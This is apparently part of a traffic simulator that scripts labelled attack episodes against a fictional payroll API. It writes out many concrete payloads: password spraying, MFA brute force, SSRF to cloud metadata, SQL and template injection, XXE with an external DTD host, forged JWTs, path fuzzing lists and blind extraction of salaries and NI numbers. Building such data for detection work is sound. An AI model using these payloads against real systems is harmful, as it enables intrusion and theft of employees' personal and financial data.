                h = {'X-Tenant-Id': t['id']}
                rs = S.call(cl, 'GET', A + '/payroll/runs', h=h)
                for x in rs.body['items'][:2] if rs.st == 200 else []:
                    yield r.uniform(10, 50)
                    S.call(cl, 'GET', f'{A}/payroll/runs/{x["id"]}', h=h)
                    for p in range(1, 2 + (x['employees'] - 1) // 25):
                        yield r.uniform(8, 40)
                        S.call(cl, 'GET', f'{A}/payroll/runs/{x["id"]}/lines?page={p}', h=h)
                yield r.uniform(100, 600)
    S.spawn(st + 90, y04())

    def y05():
        u = who('quill', 2, f=lambda u: u['web'])
        cl = yield from enter(u, 'Y05', src=u['home'] if u['home'] not in T['carrier'] else '198.18.88.14')
        rs = S.call(cl, 'GET', A + '/directory?page=1&pageSize=25')
        v = [x for x in rs.body['items'] if x['id'] != u['emp']]
        for x in r.sample(v, 6):
            yield r.uniform(60, 700)
            S.call(cl, 'PUT', f'{A}/employees/{x["id"]}/bank-details', js=dict(sortCode='04-06-05', accountNumber='31926819', accountName=f'{x["firstName"]} {x["lastName"]}'))
    at(8, 21.3, y05())

    def y06(k):
        u = who('merrow', k + 1)
        cl = C(('203.0.113.230', '198.51.100.143', '203.0.113.214')[k], WEB[(0, 3, 1)[k]], u['id'], ep='Y06', headers=dict(WEBH, **{'Accept-Language': 'en-US,en;q=0.9'}))
        S.call(cl, 'GET', A + '/auth/discover?email=' + quote(u['email']))
        yield 7
        if not (yield from login(cl, u, u['pw'])):
            return
        yield 2
        S.call(cl, 'GET', A + '/me')
        yield r.uniform(20, 90)
        S.call(cl, 'GET', A + '/me/documents?type=Payslip')
        yield r.uniform(30, 90)
        S.call(cl, 'PUT', f'{A}/employees/{u["emp"]}/bank-details', js=dict(sortCode='60-83-71', accountNumber=f'{r.randint(10**7, 10**8 - 1)}', accountName=u['name']))
        yield 12
        S.call(cl, 'GET', A + '/me')
        yield 4
        S.call(cl, 'POST', A + '/auth/logout')
    for k in range(3):
        at(7 + k, (22, 5.5, 14)[k], y06(k))

    def y07():
        u = who('tarn', 1, f=lambda u: u['web'])
        cl = yield from enter(u, 'Y07')
        ids = []
        for p in (1, 2):
            rs = S.call(cl, 'GET', f'{A}/directory?page={p}&pageSize=25')
            ids += [x['id'] for x in rs.body['items']]
            yield r.uniform(5, 15)
        for i in [i for i in ids if i != u['emp']][:27]:
            rs = S.call(cl, 'GET', f'{A}/employees/{i}/documents')
            yield r.uniform(5, 25)
            for x in [x for x in rs.body['items'] if x['type'] == 'P60'] if rs.st == 200 else []:
                S.call(cl, 'GET', f'{A}/documents/{x["id"]}/content')
                yield r.uniform(10, 50)
    at(3, 12.3, y07())

    def y08(k):
        u = [u for u in people if u['role'] == EMP and not u['sso'] and u['k'] % 7 == 3][k + 2]
        cl = yield from enter(u, 'Y08', WEB[k % 3], f'198.19.{k * 17 % 200}.{k * 9 + 12}')
        for d in range(10, 13):
            yield max(0, S.local(d, 10 + k % 9) - S.now) + r.random() * HOUR
            yield from fresh(cl, u)
            S.call(cl, 'GET', A + '/me/documents?type=Payslip')
            for _ in range(r.randint(6, 9)):
                yield r.lognormvariate(6, .8)
                yield from fresh(cl, u)
                S.call(cl, 'GET', f'{A}/documents/{r.randint(481300, app.nd)}/content')
    for k in range(10):
        at(10, 8 + k * .3, y08(k))

    mails = [u['email'] for u in people if not u['sso']]
    leak = lambda: f'{r.choice(FIRST)}.{r.choice(LAST)}{r.choice(["", str(r.randint(1, 99))])}@{r.choice(["mail.example", "post.example", "inbox.example", r.choice(TENANTS)[0] + ".example"])}'

    def y09(k):
        cl = C(f'198.19.{k * 7 % 250}.{k * 13 % 240 + 3}', WEB[k % 4], None, ep='Y09', headers=WEBH)
        for n in range(r.choice([1, 2, 2, 3])):
            if k in (41, 118) and n == 0:
                u = [u for u in people if u['role'] == EMP and not u['sso']][k]
                rs = S.call(cl, 'POST', A + '/auth/login', js=dict(email=u['email'], password=u['pw']))
                if rs.st == 200:
                    cl.h['Authorization'] = 'Bearer ' + rs.body['accessToken']
                    yield 1
                    S.call(cl, 'GET', A + '/me')
                return
            S.call(cl, 'POST', A + '/auth/login', js=dict(email=r.choice(mails) if r.random() < .35 else leak(), password=f'{r.choice(WORDS)}{r.randint(1, 9999)}'))
            yield r.uniform(20, 4000)
    for k in range(150):
        S.spawn(S.local(6, 20) + r.random() * 9 * HOUR, y09(k))

    def y10():
        cl = C('203.0.113.212', 'Go-http-client/2.0', None, ep='Y10')
        for k in range(260):
            S.call(cl, 'POST', A + '/auth/login', js=dict(email=r.choice(mails) if k % 6 == 2 else leak(), password=f'{r.choice(WORDS)}{r.randint(1, 9999)}'))
            yield r.uniform(.8, 2.6)
    at(12, 3, y10())

    def y11():
        cls = [C(f'198.51.100.{201 + k * 3}', WEB[k % 3], None, ep='Y11', headers=WEBH) for k in range(5)]
        staff = [app.emp[i] for i in slugs['corvid']['emps']]
        hit = next(u for u in people if u['tid'] == slugs['corvid']['id'] and u['role'] == EMP and u['k'] % 3 == 1)
        hit['pw'] = hit['mem'] = 'Summer2026!'
        for e in r.sample(staff, len(staff)):
            cl = r.choice(cls)
            rs = S.call(cl, 'POST', A + '/auth/login', js=dict(email=e['email'], password='Summer2026!'))
            if rs.st == 200 and rs.body.get('accessToken'):
                yield 3
                S.call(cl, 'GET', A + '/me', h={'Authorization': 'Bearer ' + rs.body['accessToken']})
                S.call(cl, 'GET', A + '/me/documents?type=Payslip', h={'Authorization': 'Bearer ' + rs.body['accessToken']})
            yield r.uniform(200, 900)
    at(8, 23, y11())

    def y12():
        u = who('tarn', 0, HR)
        cl = C('203.0.113.77', WEB[0], None, ep='Y12', headers=WEBH)
        for k in range(42):
            h = {'X-Forwarded-For': f'{r.randint(11, 190)}.{r.randint(1, 250)}.{r.randint(1, 250)}.{r.randint(1, 250)}, 203.0.113.77'}
            rs = S.call(cl, 'POST', A + '/auth/login', js=dict(email=u['email'], password=u['pw']), h=h)
            if rs.st != 200 or 'mfaToken' not in rs.body:
                yield 60
                continue
            for _ in range(5):
                yield r.uniform(1, 3)
                S.call(cl, 'POST', A + '/auth/mfa', js=dict(mfaToken=rs.body['mfaToken'], code=f'{r.randint(0, 999999):06}'), h=h)
            yield r.uniform(3, 20)
    at(9, 4, y12())

    def guess():
        if r.random() < .14:        # Names from a professional network.
            return r.choice(list(app.emp.values()))['email']
        g = r.choice(TENANTS)[0]
        return f'{r.choice(GIVEN)}.{r.choice(FAMILY)}@{g}.example'.lower().replace("'", '')

    def y13():
        cl = C('198.51.100.163', 'python-requests/2.32.3', None, ep='Y13')
        for k in range(300):
            S.call(cl, 'GET', A + '/auth/discover?email=' + quote(guess()))
            yield r.uniform(1.5, 4.5)
    at(1, 1.5, y13())

    def y14(k):
        cl = C(f'198.18.{230 + k}.{k * 31 + 7}', WEB[k % 4], None, ep='Y14', headers=WEBH)
        for _ in range(24):
            S.call(cl, 'GET', A + '/auth/discover?email=' + quote(guess()))
            yield r.uniform(1200, 8500)
    for k in range(7):
        S.spawn(S.local(4, 6) + k * 800, y14(k))

    def y15():
        cl = C('198.51.100.44', 'okhttp/4.9.3', None, ep='Y15')
        for pin in ('1234', '1111', '2580', '0000'):
            for no in range(101, 101 + len(slugs['brightwell']['emps'])):
                rs = S.call(cl, 'POST', A + '/kiosk/login', js=dict(company='brightwell', employeeNo=no, pin=pin))
                yield r.uniform(40, 90)
                if rs.st == 200:
                    h = {'Authorization': 'Bearer ' + rs.body['accessToken']}
                    S.call(cl, 'GET', A + '/me', h=h)
                    x = S.call(cl, 'GET', A + '/me/documents?type=Payslip', h=h)
                    yield 2
                    S.call(cl, 'GET', f'{A}/documents/{x.body["items"][0]["id"]}/content', h=h)
    at(5, 20, y15())

    def y16():
        u = who('lumen', 0, f=lambda u: u['phone'])
        yield from T['visit'](u['phone'], u, 1)
        yield 2 * HOUR
        cl = C('203.0.113.222', u['phone'].ua, u['id'], ep='Y16')
        rs = S.call(cl, 'POST', A + '/auth/refresh', js=dict(refreshToken=u['phone'].refresh or 'x'))
        for n in range(9):
            if rs.st != 200:
                return
            take(cl, u, rs)
            for p in r.sample(['/me', '/me/documents?type=Payslip', '/leave/requests', '/expenses', '/me/notifications'], r.randint(2, 4)):
                S.call(cl, 'GET', A + p)
                yield r.uniform(10, 200)
            if n == 1:
                x = S.call(cl, 'GET', A + '/me/documents')
                for d in x.body['items'][:3]:
                    yield r.uniform(5, 30)
                    S.call(cl, 'GET', f'{A}/documents/{d["id"]}/content')
            yield r.uniform(1, 5) * HOUR
            rs = S.call(cl, 'POST', A + '/auth/refresh', js=dict(refreshToken=cl.refresh), h=NOAUTH)

    def y16b():         # The owner opens the app meanwhile.
        u = who('lumen', 0, f=lambda u: u['phone'])
        for _ in range(4):
            yield from T['visit'](u['phone'], u, 1)
            yield r.uniform(3, 7) * HOUR
    at(8, 8, y16())
    at(8, 12.5, y16b())

    def y17():
        cl = C('198.51.100.177', 'python-requests/2.28.2', 'partner:perkline', ep='Y17', headers={'X-Api-Key': T['ben']})
        rs = S.call(cl, 'GET', '/partner/v2/companies')
        for c in rs.body['data']:
            for o in range(0, c['employeeCount'], 100):
                yield r.uniform(2, 9)
                for x in S.call(cl, 'GET', f'/partner/v2/companies/{c["id"]}/employees?limit=100&offset={o}').body['data']:
                    S.call(cl, 'GET', f'/partner/v2/employees/{x["id"]}')
                    yield r.uniform(3, 25)
    at(10, 23, y17())

    def y18():
        cfg, exp = T['rota'], 0
        cl = C('203.0.113.245', 'Apache-HttpClient/5.2.1 (Java/17.0.9)', 'partner:rotagrid', ep='Y18')
        ids = [i for t in cfg['tids'] for i in app.ten[t]['emps']]
        r.shuffle(ids)
        for n in range(150):
            if S.now > exp - 100:
                rs = S.call(cl, 'POST', '/connect/token', form=dict(grant_type='client_credentials', client_id=cfg['cid'], client_secret=cfg['secret'], scope='partner.read partner.write'), h=NOAUTH)
                cl.h['Authorization'], exp = 'Bearer ' + rs.body['access_token'], S.now + 3600
                yield 1
                if n == 0:
                    for t in cfg['tids']:
                        S.call(cl, 'GET', f'/partner/v2/companies/{t}/employees?limit=50&offset=0')
                        yield 3
            S.call(cl, 'GET', f'/partner/v2/employees/{ids[n % len(ids)]}')
            yield r.expovariate(1 / 1100)
    at(12, 10, y18())

    def y19():
        cl = C('198.51.100.219', 'Okta SCIM Client 1.0.0', 'scim:brightwell', ep='Y19', headers={'Authorization': 'Bearer ' + T['scim']['brightwell'], 'Accept': 'application/scim+json'})
        for a in (1, 101):
            S.call(cl, 'GET', f'/scim/v2/Users?startIndex={a}&count=100')
            yield r.uniform(5, 20)
        m = 'ops.sync@brightwell.example'
        S.call(cl, 'POST', '/scim/v2/Users', js=dict(schemas=['urn:ietf:params:scim:schemas:core:2.0:User'], userName=m, active=True, name=dict(givenName='Ops', familyName='Sync'), roles=[dict(value=HR)]))
        yield 300
        v = who('brightwell', 1, MGR)
        S.call(cl, 'PATCH', '/scim/v2/Users/' + v['id'], js=dict(schemas=['urn:ietf:params:scim:api:messages:2.0:PatchOp'], Operations=[dict(op='replace', path='userName', value='p.manager@collab.example')]))
        wb = C('198.51.100.219', WEB[2], None, ep='Y19', headers=WEBH)
        for mail in (m, 'p.manager@collab.example'):
            yield r.uniform(60, 400)
            S.call(wb, 'POST', A + '/auth/forgot-password', js=dict(email=mail), h=NOAUTH)
            yield 45
            S.call(wb, 'POST', A + '/auth/reset-password', js=dict(email=mail, token=app.mail.get(mail, ''), newPassword='Horizon!8821'), h=NOAUTH)
            yield 4
            rs = S.call(wb, 'POST', A + '/auth/login', js=dict(email=mail, password='Horizon!8821'), h=NOAUTH)
            if rs.st == 200 and rs.body.get('accessToken'):
                wb.h['Authorization'] = 'Bearer ' + rs.body['accessToken']
                S.call(wb, 'GET', A + '/me')
                for p in ('/employees?page=1&pageSize=100', '/payroll/runs', '/approvals'):
                    yield r.uniform(10, 60)
                    S.call(wb, 'GET', A + p)
        S.call(cl, 'PATCH', '/scim/v2/Users/' + v['id'], js=dict(schemas=['urn:ietf:params:scim:api:messages:2.0:PatchOp'], Operations=[dict(op='replace', path='userName', value=app.emp[v['emp']]['email'])]))
    at(11, 2, y19())

    def y20():
        u = who('larch', 0)
        cl = yield from enter(u, 'Y20')
        S.call(cl, 'GET', A + '/me')
        yield 40
        S.call(cl, 'PUT', f'{A}/users/{u["id"]}/role', js=dict(role=HR))
        yield 20
        rs = S.call(cl, 'GET', A + '/employees?page=1&pageSize=25')
        for x in rs.body['items'] if rs.st == 200 else []:
            yield r.uniform(8, 40)
            S.call(cl, 'GET', f'{A}/employees/{x["id"]}')
        rs = S.call(cl, 'POST', A + '/exports', js=dict(kind='bank', format='csv'))
        yield 4
        if rs.st == 202:
            S.call(cl, 'GET', f'{A}/exports/{rs.body["id"]}')
            S.call(cl, 'GET', f'{A}/exports/{rs.body["id"]}/file')
        yield 30
        S.call(cl, 'PUT', f'{A}/users/{u["id"]}/role', js=dict(role=EMP))
    at(9, 18.2, y20())

    def y21():
        u = who('osprey', 2)
        cl = yield from enter(u, 'Y21')
        for m, p, j in (('GET', '/employees?page=1&pageSize=100', None), ('GET', '/payroll/runs', None), ('POST', '/exports', dict(kind='payroll', format='csv')), ('GET', '/users', None), ('GET', '/audit-log', None), ('GET', f'/employees/{app.ten[u["tid"]]["emps"][0]}', None), ('GET', f'/employees/{app.ten[u["tid"]]["emps"][0]}/bank-details', None), ('POST', '/webhooks', dict(url='https://x.example/', events=['*'])), ('GET', '/approvals', None), ('POST', f'/payroll/runs/{uid(r)}/approve', None)):
            yield r.uniform(8, 70)
            S.call(cl, m, A + p, js=j)
    at(10, 11, y21())

    def y22():
        u = who('rowan', 0)
        cl = yield from enter(u, 'Y22')
        S.call(cl, 'GET', A + '/me')
        e = app.emp[u['emp']]
        for j in (dict(annualSalary=e['salary'] + 9000), dict(taxCode='NT'), dict(leaveBalance=38.5)):
            yield r.uniform(40, 200)
            S.call(cl, 'PATCH', A + '/me/profile', js=dict(phone=e['phone'], address=e['addr'], **j))
        S.call(cl, 'GET', A + '/me')
    at(3, 19, y22())

    def y23():
        u = who('halden', 3, f=lambda u: u['web'])
        cl = yield from enter(u, 'Y23')
        m = app.emp[u['emp']]['mgr']
        for k in range(4):
            yield r.uniform(300, 2500)
            yield from fresh(cl, u)
            S.call(cl, 'POST', A + '/expenses', js=dict(amount=round(r.uniform(180, 640), 2), currency='GBP', category='Travel', description=r.choice(SPEND), spentOn='2026-05-22', status='Approved', approvedBy=m))
    at(8, 13, y23())

    def y24():
        u = who('merrow', 0, MGR)
        cl = yield from enter(u, 'Y24')
        for q in ({'$top': 5, '$expand': 'User'}, {'$top': 50, '$expand': 'User', '$select': 'Id,Email'}, {'$top': 50, '$skip': 50, '$expand': 'User', '$select': 'Id,Email'}, {'$top': 5, '$expand': 'BankDetails'}, {'$top': 5, '$select': 'Id,PasswordHash'}, {'$top': 5, '$select': 'Id,AnnualSalary'}, {'$top': 200, '$expand': 'User($select=UserName,PasswordHash,SecurityStamp)'}):
            yield r.uniform(15, 90)
            S.call(cl, 'GET', '/odata/Employees?' + urlencode(q))
    at(4, 18, y24())

    def y25():
        u = who('corvid', 0, MGR)
        cl = yield from enter(u, 'Y25')
        for i in app.ten[u['tid']]['emps'][:3]:
            e, lo, hi = app.emp[i], 15000, 130000
            while hi - lo > 200:
                mid = (lo + hi) // 2
                rs = S.call(cl, 'GET', '/odata/Employees?' + urlencode({'$filter': f'Id eq {i} and AnnualSalary ge {mid}', '$select': 'Id', '$top': 1, '$count': 'true'}))
                if rs.st != 200:
                    return
                lo, hi = (mid, hi) if rs.body['@odata.count'] else (lo, mid)
                yield r.uniform(15, 120)
                yield from fresh(cl, u)
            known = ''
            for pos in range(5):
                for c in ('ABCEGHJKLMNPRSTWXYZ' if pos < 2 else '0123456789'):
                    rs = S.call(cl, 'GET', '/odata/Employees?' + urlencode({'$filter': f"Id eq {i} and startswith(NationalInsuranceNumber,'{known + c}')", '$select': 'Id', '$top': 1, '$count': 'true'}))
                    yield r.uniform(15, 120)
                    yield from fresh(cl, u)
                    if rs.st == 200 and rs.body['@odata.count']:
                        known += c
                        break
    at(8, 9.5, y25())

    def y26():
        cl = C('198.51.100.51', 'okhttp/3.12.1', None, ep='Y26')
        i = 482400
        for k in range(110):
            i += r.choice([1, 1, 2])
            S.call(cl, 'GET', f'/api/v0/payslip/{i}.pdf')
            yield r.uniform(15, 45)
    at(12, 1, y26())

    def y28(k):
        cl = C(f'203.0.113.{201 + k * 6}', (WEB + ['curl/8.5.0'])[k * 2], None, ep='Y28')
        for _ in range(5):
            S.call(cl, 'GET', A + '/_preview/payslip-data')
            yield r.uniform(400, 9000)
    for k in range(3):
        S.spawn(app.shadow + 5 * HOUR + k * 3000, y28(k))

    def y29():
        cl = C('198.51.100.8', 'curl/8.5.0', None, ep='Y29')
        for p in ('/hangfire', '/hangfire/jobs/succeeded', '/internal/etl/employees?after=0', '/internal/etl/employees?after=10540', '/internal/runs/due', f'/internal/bacs/{slugs["corvid"]["run"]}/file', '/hangfire/jobs/failed'):
            S.call(cl, 'GET', p)
            yield r.uniform(60, 3000)
    at(6, 10, y29())

    def y30():
        u = who('minnow', 0, HR)
        cl = yield from enter(u, 'Y30', src='198.18.66.9')
        for url in ('http://localhost:8080/health/ready', 'http://127.0.0.1:80/', 'http://169.254.169.254/metadata/instance', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01', 'http://sql-prod.internal:1433/', 'http://10.40.1.10:8080/health/ready'):
            rs = S.call(cl, 'POST', A + '/webhooks', js=dict(url=url, events=['employee.created']))
            yield r.uniform(8, 40)
            if rs.st == 201:
                S.call(cl, 'POST', f'{A}/webhooks/{rs.body["id"]}/test')
            yield r.uniform(20, 120)
    at(10, 20, y30())

    def y31():
        u = who('otter', 0, HR)
        cl = yield from enter(u, 'Y31')
        for k, host in enumerate(('2130706433', '10.40.1.10', '10.40.5.4', '169.254.169.254.wild.example', '10.40.8.2', '0x7f.1')):
            for port in r.sample([80, 443, 1433, 5672, 6379, 8080, 9200, 15672], 4):
                S.call(cl, 'POST', A + '/company/logo/import', js=dict(url=f'http://{host}:{port}/logo'))
                yield r.uniform(60, 700)
                yield from fresh(cl, u)
    at(9, 19, y31())

    def y32():
        u = who('dovecote', 0, HR)
        cl = yield from enter(u, 'Y32', 'sqlmap/1.8.4#stable (https://sqlmap.org)', '203.0.113.131')
        for k in range(85):
            n = r.randint(1000, 9999)
            x = r.choice([f'name AND {n}={n}', f'name) AND {n}={n + 1} AND ({n}={n}', f"name' AND {n}={n}-- -", f'name UNION ALL SELECT NULL,CHAR(113)+CHAR({n % 120})+CHAR(113)-- -', "name;WAITFOR DELAY '0:0:5'--", f'(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE {n}*(SELECT {n} FROM master..sysdatabases) END))', f'name ORDER BY {k % 12 + 1}-- -', f'name,(SELECT TOP 1 name FROM sysobjects WHERE xtype=CHAR(85))'])
            S.call(cl, 'GET', A + '/reports/headcount?sort=' + quote(x))
            yield r.uniform(.2, 1.2)
    at(7, 16, y32())

    def y33():
        u = who('ironbark', 0, HR)
        cl = yield from enter(u, 'Y33', src='198.18.51.7')
        for x in ("name'", 'name--', '(case when 1=1 then name else count end)', '(case when 1=2 then name else count end)', "(case when (select substring(db_name(),1,1))='p' then name else count end)", "name; waitfor delay '0:0:3'", "(select 1 where system_user='sa')", "(case when (select top 1 left(UserName,1) from AspNetUsers)='a' then name else count end)", "(case when (select top 1 left(PasswordHash,1) from AspNetUsers)='b' then name else count end)", "name; if (1=1) waitfor delay '0:0:5'"):
            yield r.uniform(30, 300)
            S.call(cl, 'GET', A + '/reports/headcount?sort=' + quote(x))
    at(3, 20, y33())

    def y34():
        u = who('sable', 0, HR)
        cl = yield from enter(u, 'Y34')
        i = app.ten[u['tid']]['emps'][3]
        for x in ('Dear @Model.FirstName, @(7*7)', 'Dear @Model.FirstName, @{ var x = 1; }', '@System.DateTime.Now', '@System.IO.File.ReadAllText("appsettings.json")', '@System.Environment.GetEnvironmentVariables()', 'Dear @Model.FirstName, @(191*7)'):
            yield r.uniform(40, 400)
            S.call(cl, 'POST', A + '/letters/preview', js=dict(employeeId=i, body=x))
    at(4, 14.5, y34())

    def y35():
        u = T['acc'][1]
        cl = yield from enter(u, 'Y35', src='203.0.113.99')
        t = u['clients'][0]
        for s_ in ('file:///c:/windows/win.ini', 'file:///etc/passwd', 'http://203.0.113.66/e.dtd', 'file:///c:/inetpub/appsettings.json', 'http://169.254.169.254/metadata/instance'):
            x = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{s_}">]><Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><MsgId>&x;</MsgId></Document>'
            yield r.uniform(30, 200)
            S.call(cl, 'POST', A + '/imports/statements', body=x.encode(), ct='application/xml', h={'X-Tenant-Id': t})
    at(11, 21, y35())

    def y36():
        u, now = who('quill', 4), int(S.now)
        cl = C('198.51.100.36', 'python-requests/2.31.0', None, ep='Y36')
        v = hr_of('quill')
        yield from login(cl, u)
        yield 60
        now = int(S.now)
        c = {'sub': v['id'], 'email': v['email'], 'tid': v['tid'], 'role': HR, 'iss': 'https://id.paynest.example', 'aud': 'paynest-api', 'nbf': now, 'exp': now + 9 * DAY}
        e = lambda o: b64(json.dumps(o, separators=(',', ':')).encode())
        own = cl.h['Authorization'][7:].split('.') if 'Authorization' in cl.h else ['x', 'y', 'z']
        for t in [e({'alg': a, 'typ': 'JWT'}) + '.' + e(c) + '.' for a in ('none', 'None', 'nOnE')] + [jwt(c, k) for k in ('secret', 'paynest', 'changeme', 'your-256-bit-secret', 'SuperSecretKey@345')] + [own[0] + '.' + e(dict(c)) + '.' + own[2], e({'alg': 'HS256', 'kid': '../../../dev/null'}) + '.' + e(c) + '.' + b64(b'x' * 32), e({'alg': 'RS256', 'jku': 'http://203.0.113.66/jwks.json'}) + '.' + e(c) + '.' + b64(b'y' * 64)]:
            for p in r.sample(['/me', '/employees?page=1&pageSize=25', '/payroll/runs'], r.randint(1, 2)):
                S.call(cl, 'GET', A + p, h={'Authorization': 'Bearer ' + t})
                yield r.uniform(4, 60)
    at(5, 19.5, y36())

    LIST = ['.git/config', '.env', 'backup.bak', 'swagger/v1/swagger.json', 'swagger', 'users', 'debug', 'config', 'test', 'old', 'graphql', 'metrics', 'console', 'status', 'web.config', 'trace.axd', 'elmah.axd', 'appsettings.json', 'wp-login.php', 'dump', 'private', 'tokens', 'export', 'upload', 'logs', 'health', 'db', 'admin', 'keys', 'roles', 'payments', 'salaries', 'payslips', 'audit', 'jobs', 'flags', 'sessions', 'impersonate', 'tenants', 'companies', 'signalr', 'hubs', 'profiler', 'mini-profiler-resources/results', '_vti_bin', 'aspnet_client', 'bin', 'connect/introspect', '.well-known/openid-configuration']

    def y37():
        cl = C('203.0.113.251', 'Fuzz Faster U Fool v2.1.0-dev', None, ep='Y37')
        for p in [f'/{a}{b}' for a in ('', 'api/', 'api/v1/', 'api/v2/', 'admin/', 'internal/', 'odata/') for b in LIST][:322]:
            S.call(cl, 'GET', p)
            yield r.uniform(.4, 1)
    at(6, 3, y37())

    def y38(k):
        cl = C(f'198.51.100.{31 + k * 40}', WEB[k], None, ep='Y38')
        w = [f'/{a}{b}' for a in ('api/v1/', 'api/v2/', 'api/', 'partner/v1/', 'partner/v3/', 'internal/', 'public/v1/', 'public/v2/') for b in LIST]
        r.shuffle(w)
        for p in w[:130]:
            S.call(cl, 'GET', p)
            yield r.uniform(600, 2600)
    for k in range(3):
        S.spawn(S.local(9, 7) + k * 3700, y38(k))

    def y39(k):
        u = who(('corvid', 'brightwell')[k], 1 + k, MGR)
        cl = yield from enter(u, 'Y39', src=f'198.51.100.{91 + k}')
        for n in range(19):
            k_ = 2 if n < 4 else 4
            deep = 'Manager($expand=Reports' + '($expand=Manager($expand=Reports' * (k_ - 1) + '))' * (k_ - 1) + ')'
            S.call(cl, 'GET', '/odata/Employees?' + urlencode({'$top': 100000, '$expand': deep, '$orderby': 'LastName', '$count': 'true'}))
            yield r.uniform(1, 25)
    at(10, 15, y39(0))
    at(10, 15.1, y39(1))

    def y40():
        u = who('brightwell', 4, f=lambda u: u['web'])
        cl = yield from enter(u, 'Y40', 'axios/1.6.8', '198.18.99.40')
        for n in range(7):
            yield from fresh(cl, u)
            rs = S.call(cl, 'GET', A + '/directory?page=1&pageSize=200')
            for x in rs.body['items'] if rs.st == 200 else []:
                S.call(cl, 'GET', f'{A}/employees/{x["id"]}/photo')
                yield r.uniform(.3, 1)
            yield r.uniform(1500, 3000)
    at(7, 1, y40())

    def y41():
        u = who('tarn', -1, HR)
        for d in (9, 10, 11, 14, 15):
            yield max(1, S.local(d, 9.5) - S.now)
            cl = yield from enter(u, 'Y41')
            for _ in range(5):
                yield r.uniform(900, 4500)
                yield from fresh(cl, u)
                rs = S.call(cl, 'POST', A + '/exports', js=dict(kind=r.choice(['employees', 'bank', 'payroll']), format='csv', filter=dict(department=r.choice(DEPTS))))
                yield 4
                if rs.st == 202:
                    S.call(cl, 'GET', f'{A}/exports/{rs.body["id"]}')
                    S.call(cl, 'GET', f'{A}/exports/{rs.body["id"]}/file')
                i = r.choice(app.ten[u['tid']]['emps'])
                yield r.uniform(30, 300)
                rs = S.call(cl, 'GET', f'{A}/employees/{i}/documents')
                for x in rs.body['items'][-2:] if rs.st == 200 else []:
                    yield r.uniform(5, 40)
                    S.call(cl, 'GET', f'{A}/documents/{x["id"]}/content')
    S.spawn(st + 80, y41())

    def y42():
        u = who('osprey', 4)
        for d in (1, 2, 3, 4, 8):
            yield max(1, S.local(d, 12 + r.random()) - S.now)
            cl = yield from enter(u, 'Y42')
            for _ in range(8):
                yield r.uniform(40, 900)
                yield from fresh(cl, u)
                S.call(cl, 'POST', A + '/expenses', js=dict(amount=round(r.uniform(46.5, 49.95), 2), currency='GBP', category=r.choice(['Meals', 'Travel']), description=r.choice(SPEND), spentOn=time.strftime('%Y-%m-%d', time.gmtime(S.now))))
    S.spawn(st + 81, y42())

    def y43():
        u = who('dovecote', 0, HR)
        cl = yield from enter(u, 'Y43')
        rs = S.call(cl, 'GET', A + '/payroll/runs')
        i = next(x['id'] for x in rs.body['items'] if x['period'] == '2026-05')
        for m, p, j in (('GET', '/lines?page=1', None), ('PUT', f'/lines/{u["emp"]}', dict(adjustment=4800)), ('POST', '/calculate', None), ('POST', '/submit', None)):
            yield r.uniform(20, 120)
            S.call(cl, m, f'{A}/payroll/runs/{i}{p}', js=j)
    at(4, 17.5, y43())

    def y44(k):
        for n in range(8):
            cl = C(('203.0.113.171', '203.0.113.176', '198.18.45.45')[k], WEB[(k + n) % 3], None, ep='Y44', headers=WEBH)
            w = r.choice(WORDS)
            rs = S.call(cl, 'POST', '/public/v1/trials', js=dict(companyName=f'{w.title()} {r.choice(["Ltd", "Group", "Trading"])}', email=f'{w}{r.randint(10, 999)}@quickbox.example', referralCode='SABLE-4TT'))
            yield r.uniform(4, 11)
            S.call(cl, 'POST', f'/public/v1/trials/{rs.body["trialId"]}/verify', js=dict(code=app.trials[rs.body['trialId']]))
            yield r.uniform(1500, 14000)
    for k in range(3):
        at(11, 10 + k * 2, y44(k))

    def y45(k):
        u = who(('corvid', 'merrow')[k], 6 + k)
        cl = yield from enter(u, 'Y45')
        S.call(cl, 'GET', A + '/me/advances/available')
        yield 30
        app.emp[u['emp']]['advs'] = []
        for n in range(10):
            def shot(n=n, h=cl.h['Authorization']):
                S.call(C(cl.xff, cl.ua, u['id'], ep='Y45', headers={'Authorization': h, **WEBH}), 'POST', A + '/me/advances', js=dict(amount=300))
                yield 0
            S.spawn(S.now + 1 + n * .013, shot())
        yield 20
        S.call(cl, 'GET', A + '/me/advances/available')
    at(11, 20, y45(0))
    at(12, 11, y45(1))

    def y46():
        u = who('merrow', 8)
        for d in (1, 2, 8):
            yield max(1, S.local(d, 9.95) - S.now)
            cl = yield from enter(u, 'Y46', 'Paynest/5.2.1 (Android 14; SM-A546B) okhttp/4.12.0', '198.18.31.77')
            end = S.now + 24 * MIN
            while S.now < end:
                rs = S.call(cl, 'GET', A + '/shifts/open')
                for x in [x for x in rs.body['items'] if x['rate'] > 13.5] if rs.st == 200 else []:
                    S.call(cl, 'POST', f'{A}/shifts/{x["id"]}/claim')
                yield r.uniform(7, 9)
    S.spawn(st + 82, y46())

    def y47():
        u = who('kestrelair', 0)
        cl = yield from enter(u, 'Y47', 'python-requests/2.31.0')
        for k in range(300):
            yield from fresh(cl, u)
            S.call(cl, 'POST', A + '/me/vouchers/redeem', js=dict(code='PN-' + ''.join(r.choices('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', k=6))))
            yield r.uniform(10, 20)
    at(13, 14, y47())

    def y48(k):
        cl = C(f'198.19.{20 + k * 7}.{k * 11 + 4}', WEB[k % 4], None, ep='Y48')
        for i in range(513 + k, app.nv + 12, 9):
            S.call(cl, 'GET', f'/public/v1/vacancies/{i}')
            yield r.uniform(900, 3400)
    for k in range(9):
        S.spawn(S.local(3, 5) + k * 500, y48(k))

    real = S.call

    def call(cl, m, url, **k):
        if m == 'GET' and url.startswith(A + '/directory') and S.now > app.grow and not cl.ep and not k.get('ep'):
            k['ep'] = 'Y27'
        return real(cl, m, url, **k)
    S.call = call
